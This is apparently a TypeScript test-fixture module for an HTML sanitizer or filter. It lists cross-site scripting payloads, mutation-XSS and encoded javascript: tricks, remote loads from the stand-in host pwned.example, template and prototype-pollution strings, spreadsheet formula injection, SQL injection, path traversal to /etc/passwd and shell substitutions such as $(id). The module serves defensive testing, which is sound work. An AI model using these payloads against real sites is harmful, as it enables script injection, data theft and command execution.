// What hostile texts are made of, see hostile.ts: the techniques that lists of ways past a filter name, written anew.
/** Where hostile text wants to call; no browser of these tests may ever ask for it. */
export const ELSEWHERE = 'pwned.example';
/** What hostile text wants to run, in the spellings of {@link ELSEWHERE} and of the canary. */
export const RUN = 'window.__pwned=1';
export const CALLS = [RUN, `alert(1)`, `top[\`__pwned\`]=1`, `fetch(\`//${ELSEWHERE}/f\`)`];

export const TAGS = (
  'img svg body iframe video audio input details marquee object embed style link select textarea button form table ' +
  'math isindex keygen frameset meter x-y bgsound'
).split(' ');
export const EVENTS = (
  'error load focus mouseover click toggle start animationstart transitionend pointerenter begin beforeinput wheel ' +
  'pageshow hashchange scroll copy paste auxclick beforetoggle'
).split(' ');
/** Between a tag's name and its first attribute. */
export const GAPS = [' ', '/', '\t', '\n', '\f', '/ /', '/**/', '\u00a0 ', ' x="`" ', `" '`];
export const SCHEMES = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    '\u0001javascript:',
    'java\tscript:',
    'java\nscript:',
    'java\0script:',
  ],
  ...[
    'jav&#x09;ascript:',
    'jav&#x0A;ascript:',
    'jav&#x0D;ascript:',
    'javascript&colon;',
    'javascript&#58;',
    '&Tab;javascript:',
  ],
  ...[
    '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;',
    '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A',
  ],
  ...[
    '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058',
    'vbscript:',
  ],
  ...['livescript:', 'feed:javascript:', 'view-source:javascript:', 'data:text/html,<script>', 'data:text/javascript,'],
  ...[
    'data:image/svg+xml;utf8,<svg onload=',
    'blob:javascript:',
    'jar:javascript:',
    'mhtml:javascript:',
    'javascript://%0a',
  ],
  ...[`//${ELSEWHERE}/`, `https://${ELSEWHERE}/?`, `\\\\${ELSEWHERE}\\`, `http:${ELSEWHERE}/`],
];
export const ADDRESSED: readonly (readonly [tag: string, attribute: string])[] = (
  'a href|img src|iframe src|script src|form action|button formaction|object data|embed src|video poster|body background|' +
  'input src|link href|base href|svg><use xlink:href|svg><image href|svg><a xlink:href|math xlink:href|img srcset|' +
  'img dynsrc|img lowsrc|a ping|meta content'
)
  .split('|')
  .map((one) => [one.slice(0, one.lastIndexOf(' ')), one.slice(one.lastIndexOf(' ') + 1)] as const);
/** Ways out of where text commonly stands, before what they let in. */
export const WAYS_OUT = [
  ...[
    '',
    '">',
    "'>",
    '`>',
    '-->',
    '--!>',
    ']]>',
    '/>',
    '*/',
    '\\">',
    '&quot;&gt;',
    '\u2028">',
    '</title>',
    '</textarea>',
  ],
  ...[
    '</style>',
    '</script>',
    '</noscript>',
    '</template>',
    '</iframe>',
    '</svg>',
    '</math>',
    '</select>',
    '</option>',
  ],
  ...[
    '</xmp>',
    '</plaintext>',
    '<!--',
    '<![CDATA[',
    '<?xml ?>',
    '<a title="',
    "<p style='",
    '<!DOCTYPE x [<!ENTITY e "',
  ],
];
export const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script/x>${RUN}</script/x>`,
  `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN};//<</script>`,
  `<script src=//${ELSEWHERE}/x.js></script>`,
  `<script src="https://${ELSEWHERE}/x.js"`,
  `<script type=module>import"https://${ELSEWHERE}/m.js"</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=//${ELSEWHERE}/s.js /></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN} />`,
  `<svg><style>@import'//${ELSEWHERE}/s.css'</style>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=1</script>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<select><template><img src=x onerror=${RUN}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe>`,
  `<object type=text/html data=//${ELSEWHERE}/o></object>`,
  `<style>@import url(//${ELSEWHERE}/c.css);*{background:url(//${ELSEWHERE}/b)}</style>`,
  `<p style="background:url(//${ELSEWHERE}/p)">`,
  `<p style="width:expression(${RUN});-moz-binding:url(//${ELSEWHERE}/x.xml#x);behavior:url(x.htc)">`,
  `<p style="b\\61ckground:u\\72l(//${ELSEWHERE}/e)">`,
  `<link rel=stylesheet href=//${ELSEWHERE}/l.css>`,
  `<link rel=prefetch href=//${ELSEWHERE}/pre><link rel=dns-prefetch href=//${ELSEWHERE}>`,
  `<meta http-equiv=refresh content="0;url=//${ELSEWHERE}/r">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<base href=//${ELSEWHERE}/>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=//${ELSEWHERE}/i.png srcset="//${ELSEWHERE}/2x 2x">`,
  `<picture><source srcset=//${ELSEWHERE}/s><img></picture>`,
  `<video autoplay src=//${ELSEWHERE}/v onloadstart=${RUN}><track src=//${ELSEWHERE}/t default>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<button popovertarget=x>x</button><p popover id=x onbeforetoggle=${RUN}>`,
  `<a id=body><a id=documentElement name=location href=x>`,
  `<form name=document><input name=cookie><input name=body>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\u{ff1c}script\u{ff1e}${RUN}\u{ff1c}/script\u{ff1e}`,
];
/** What is no markup but means something to one program or another that text may meet. */
export const OTHERS = [
  ...[
    `&{${RUN}};`,
    `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
    `\u00bcscript\u00be${RUN}\u00bc/script\u00be`,
    `<?import namespace=t implementation="//${ELSEWHERE}/t">`,
    `<!--#exec cmd="/bin/echo '<script src=//${ELSEWHERE}/s>'"-->`,
    `<? echo('<script>'); echo('${RUN}</script>'); ?>`,
    `<xml id=i><x><b><img src="javas<!-- -->cript:${RUN}"></b></x></xml><p datasrc=#i datafld=b dataformatas=html>`,
    `<t:set attributeName=innerHTML to="<script defer>${RUN}</script>">`,
    `<li style="list-style-image: url('javascript:${RUN}')">`,
    `<body onload!#$%&()*~+-_.,:;?@[/|\\]^=${RUN}>`,
    `<img """><script>${RUN}</script>"\\>`,
    `<script a=">" src=//${ELSEWHERE}/q></script>`,
    `<script>document.write("<scri");</script>pt src=//${ELSEWHERE}/w></script>`,
    `<a href="http://0x7f.0x00.0x00.0x01/">x</a><a href="h\ntt\tp://127.0.0.1/">x</a>`,
    `<meta http-equiv=Set-Cookie content="a=<script>${RUN}</script>">`,
    `<img src=x onerror=&#119&#105&#110&#100&#111&#119.__pwned=1>`,
  ],
  ...[`[x](javascript:${RUN})`, `[x](<javascript:${RUN}>)`, `![x](//${ELSEWHERE}/i)`, `![x](x "onerror=${RUN}")`],
  ...[`<javascript:${RUN}>`, `[x]: javascript:${RUN}\n[x]`, `<https://${ELSEWHERE}/auto>`, `https://${ELSEWHERE}/bare`],
  ...[
    `[a](data:text/html;base64,PHNjcmlwdD4=)`,
    `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
    `[![x](//${ELSEWHERE}/n)](//${ELSEWHERE})`,
  ],
  ...[
    `{{constructor.constructor('${RUN}')()}}`,
    `\${${RUN}}`,
    `<%= ${RUN} %>`,
    `#{${RUN}}`,
    `[[${RUN}]]`,
    `{%raw%}`,
    `@{${RUN}}`,
  ],
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'undefined',
    'null',
    'NaN',
    'true',
    '-1e400',
    '0x10',
  ],
  ...[
    `{"__proto__":{"polluted":1}}`,
    `=HYPERLINK("//${ELSEWHERE}")`,
    `=cmd|'/c calc'!A1`,
    '@SUM(1+1)',
    '+1+1',
    '-1+1',
    '\t=1+1',
  ],
  ...[
    "'; DROP TABLE tags; --",
    '" OR ""="',
    '../../etc/passwd',
    '..\\..\\x',
    'file:///etc/passwd',
    '%00',
    '%s%s%n',
    '$(id)',
    '`id`',
  ],
  ...[
    '\u202etxt.exe\u202c',
    '\u2066\u2067\u2068',
    '\u200b\u200c\u200d\ufeff',
    'Z\u0351\u036f\u034c\u035d'.repeat(30),
    '\u0000\u0007\u001b[31m',
  ],
  ...[
    '\ud800',
    '\udfff\ud83d',
    '\ufffe\uffff',
    '👨‍👩‍👧‍👦'.repeat(40),
    'مرحبا\u200f<b>',
    'A'.repeat(5000),
    'long '.repeat(900),
    ' ',
    '\n\n\n',
  ],
  ...[
    `;${RUN};`,
    `'-${RUN}-'`,
    `"-${RUN}-"`,
    `\\'-${RUN}//`,
    `*/${RUN}/*`,
    `//${RUN}`,
    `\u2028${RUN}`,
    `onerror=${RUN}`,
  ],
  ...[
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A//</stYle/</titLe/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
  ],
];
